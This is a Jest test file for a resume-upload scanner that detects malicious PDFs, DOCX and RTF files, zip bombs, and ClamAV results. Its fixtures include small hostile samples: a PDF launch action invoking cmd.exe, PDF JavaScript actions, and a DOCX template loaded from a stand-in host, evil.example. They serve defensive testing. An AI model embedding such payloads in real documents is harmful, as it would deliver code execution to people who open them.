@@ -0,0 +1,183 @@
+import { ConfigService } from '@nestjs/config';
+import JSZip from 'jszip';
+import * as net from 'net';
+import * as zlib from 'zlib';
+import { FileScanService } from '../modules/resume-analysis/services/file-scan.service';
+import { FileValidationService } from '../modules/resume-analysis/services/file-validation.service';
+
+const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+
+describe('FileScanService', () => {
+  let config: Record<string, string>;
+  let service: FileScanService;
+
+  const pdf = (body: string) => Buffer.from(`%PDF-1.4\n${body}\n%%EOF`, 'latin1');
+
+  const docx = async (files: Record<string, string> = {}) => {
+    const zip = new JSZip();
+    zip.file('[Content_Types].xml', '<Types><Default Extension="xml" ContentType="application/xml"/></Types>');
+    zip.file('word/document.xml', '<w:document><w:body><w:p>Jane Smith</w:p></w:body></w:document>');
+    zip.file(
+      'word/_rels/document.xml.rels',
+      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://linkedin.com/in/jane" TargetMode="External"/></Relationships>',
+    );
+    for (const [name, content] of Object.entries(files)) {
+      zip.file(name, content);
+    }
+    return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
+  };
+
+  const upload = (buffer: Buffer, mimetype: string) =>
+    ({ buffer, mimetype, originalname: 'resume', size: buffer.length }) as Express.Multer.File;
+
+  beforeEach(() => {
+    config = {};
+    const configService = { get: jest.fn((key: string) => config[key]) } as unknown as ConfigService;
+    service = new FileScanService(configService, new FileValidationService(configService));
+  });
+
+  describe('scanContent', () => {
+    it('should reject executables regardless of the declared type', async () => {
+      const threats = await service.scanContent(Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), 'application/pdf');
+
+      expect(threats).toEqual([expect.objectContaining({ type: 'executable' })]);
+    });
+
+    it('should reject files whose magic bytes do not match the declared type', async () => {
+      const threats = await service.scanContent(Buffer.from('just some text'), 'application/pdf');
+
+      expect(threats).toEqual([expect.objectContaining({ type: 'signature-mismatch' })]);
+    });
+
+    it('should pass a plain PDF', async () => {
+      expect(await service.scanContent(pdf('1 0 obj << /Type /Catalog >> endobj'), 'application/pdf')).toEqual([]);
+    });
+
+    it('should find JavaScript, launch actions and embedded files in PDFs, including hex-escaped names', async () => {
+      const threats = await service.scanContent(
+        pdf('1 0 obj << /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> /Names << /EmbeddedFiles 2 0 R >> >> endobj\n3 0 obj << /S /Launch /F (cmd.exe) >> endobj'),
+        'application/pdf',
+      );
+
+      expect(threats.map(threat => threat.type)).toEqual(['pdf-javascript', 'pdf-launch-action', 'pdf-embedded-file']);
+    });
+
+    it('should look inside compressed object streams', async () => {
+      const packed = zlib.deflateSync(Buffer.from('<< /S /JavaScript /JS (this.exportDataObject()) >>'));
+      const buffer = Buffer.concat([
+        Buffer.from('%PDF-1.5\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n', 'latin1'),
+        packed,
+        Buffer.from('\nendstream endobj\n%%EOF', 'latin1'),
+      ]);
+
+      expect(await service.scanContent(buffer, 'application/pdf')).toEqual([
+        expect.objectContaining({ type: 'pdf-javascript' }),
+      ]);
+    });
+
+    it('should ignore action names that turn up by chance in binary stream data', async () => {
+      const buffer = Buffer.concat([
+        Buffer.from('%PDF-1.5\n5 0 obj << /Length 12 /Filter /DCTDecode >> stream\n', 'latin1'),
+        Buffer.from([0xff, 0xd8, 0x2f, 0x4a, 0x53, 0x20, 0x2f, 0x4c, 0x61, 0x75, 0x6e, 0x63, 0x68, 0x00]),
+        Buffer.from('\nendstream endobj\n%%EOF', 'latin1'),
+      ]);
+
+      expect(await service.scanContent(buffer, 'application/pdf')).toEqual([]);
+    });
+
+    it('should pass a DOCX whose only external links are hyperlinks', async () => {
+      expect(await service.scanContent(await docx(), DOCX)).toEqual([]);
+    });
+
+    it('should flag macros and externally loaded templates in DOCX files', async () => {
+      const threats = await service.scanContent(
+        await docx({
+          'word/vbaProject.bin': 'macro',
+          'word/_rels/settings.xml.rels':
+            '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        }),
+        DOCX,
+      );
+
+      expect(threats).toEqual([
+        expect.objectContaining({ type: 'macro' }),
+        expect.objectContaining({
+          type: 'external-relationship',
+          detail: expect.stringContaining('http://evil.example/t.dotm'),
+        }),
+      ]);
+    });
+
+    it('should reject archives that expand far beyond their size', async () => {
+      const threats = await service.scanContent(await docx({ 'word/media/padding.xml': 'a'.repeat(4 * 1024 * 1024) }), DOCX);
+
+      expect(threats).toEqual([expect.objectContaining({ type: 'zip-bomb' })]);
+    });
+
+    it('should reject archives with corrupt entries instead of throwing', async () => {
+      const buffer = await docx();
+      const entry = buffer.indexOf('[Content_Types].xml') + '[Content_Types].xml'.length;
+      buffer.fill(0xff, entry, entry + 8);
+
+      const threats = await service.scanContent(buffer, DOCX);
+
+      expect(threats).toEqual([expect.objectContaining({ type: 'signature-mismatch' })]);
+    });
+
+    it('should flag embedded objects in RTF', async () => {
+      const threats = await service.scanContent(Buffer.from('{\\rtf1 {\\object\\objemb {\\*\\objdata 0105}}}'), 'application/rtf');
+
+      expect(threats).toEqual([expect.objectContaining({ type: 'embedded-object' })]);
+    });
+  });
+
+  describe('scan with ClamAV', () => {
+    let server: net.Server;
+
+    const listen = (reply: string) =>
+      new Promise<number>(resolve => {
+        server = net.createServer({ allowHalfOpen: true }, socket => {
+          socket.on('data', () => undefined);
+          socket.on('end', () => socket.end(`${reply}\0`));
+        });
+        server.listen(0, '127.0.0.1', () => resolve((server.address() as net.AddressInfo).port));
+      });
+
+    afterEach(done => {
+      if (server?.listening) {
+        server.close(() => done());
+      } else {
+        done();
+      }
+    });
+
+    it('should reject files the daemon reports as infected', async () => {
+      config = { CLAMAV_HOST: '127.0.0.1', CLAMAV_PORT: String(await listen('stream: Eicar-Test-Signature FOUND')) };
+
+      const result = await service.scan(upload(pdf(''), 'application/pdf'));
+
+      expect(result.clean).toBe(false);
+      expect(result.scanners).toEqual(['content', 'clamav']);
+      expect(result.threats).toEqual([{ type: 'malware', detail: 'ClamAV detected Eicar-Test-Signature' }]);
+    });
+
+    it('should accept files the daemon reports as clean', async () => {
+      config = { CLAMAV_HOST: '127.0.0.1', CLAMAV_PORT: String(await listen('stream: OK')) };
+
+      expect((await service.scan(upload(pdf(''), 'application/pdf'))).clean).toBe(true);
+    });
+
+    it('should only fail closed on an unreachable daemon when configured to', async () => {
+      const port = await listen('stream: OK');
+      await new Promise(resolve => server.close(resolve));
+      config = { CLAMAV_HOST: '127.0.0.1', CLAMAV_PORT: String(port) };
+
+      expect((await service.scan(upload(pdf(''), 'application/pdf'))).clean).toBe(true);
+
+      config.CLAMAV_FAIL_CLOSED = 'true';
+      expect((await service.scan(upload(pdf(''), 'application/pdf'))).threats).toEqual([
+        expect.objectContaining({ type: 'scan-error' }),
+      ]);
+    });
+  });
+});